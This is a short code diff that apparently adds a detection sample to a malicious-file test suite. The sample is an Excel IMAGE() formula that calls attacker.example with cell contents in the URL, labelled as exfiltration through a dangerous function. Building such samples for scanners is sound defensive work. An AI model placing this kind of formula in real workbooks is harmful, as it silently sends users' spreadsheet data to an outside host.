@@ -499,3 +499,11 @@ def xll_addin_dll(work: Path) -> bytes:
         + b"\x00" * 64
         + b"PE\x00\x00"
     )
+
+
+_formula_sample(
+    "xlsx_image_function_exfil",
+    '<f>_xlfn.IMAGE("https://attacker.example/p.png?d="&amp;A2&amp;B2)</f>',
+    "Excel IMAGE(): fetching a URL built from cell values sends them out",
+    "dangerous-function",
+)
